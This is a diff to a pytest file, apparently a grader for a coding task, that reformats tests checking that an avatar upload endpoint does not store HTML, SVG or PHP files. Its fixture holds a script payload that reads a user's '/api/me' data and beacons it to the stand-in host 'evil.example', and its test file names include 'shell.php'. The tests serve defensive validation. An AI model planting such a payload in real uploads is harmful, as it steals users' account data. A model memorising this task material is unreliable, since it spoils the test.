@@ -5,7 +5,10 @@ import pytest
 
 from solution import app
 
-SCRIPT = b"<html><script>fetch('/api/me').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))</script></html>"
+SCRIPT = (
+    b"<html><script>fetch('/api/me').then(r=>r.text())"
+    b".then(t=>navigator.sendBeacon('//evil.example',t))</script></html>"
+)
 
 
 @pytest.fixture()
@@ -15,7 +18,11 @@ def client(tmp_path):
 
 
 def _upload(client, name, data):
-    return client.post("/profile/avatar", data={"avatar": (io.BytesIO(data), name)}, content_type="multipart/form-data")
+    return client.post(
+        "/profile/avatar",
+        data={"avatar": (io.BytesIO(data), name)},
+        content_type="multipart/form-data",
+    )
 
 
 @pytest.mark.parametrize("name", ["avatar.html", "avatar.svg", "shell.php", "avatar.png.html"])
@@ -33,4 +40,3 @@ def test_active_content_upload_not_served(client, name):
     stored = os.listdir(folder) if os.path.isdir(folder) else []
     bad = [f for f in stored if f.lower().endswith((".html", ".htm", ".svg", ".php"))]
     assert not bad, f"dangerous file stored: {bad}"
-
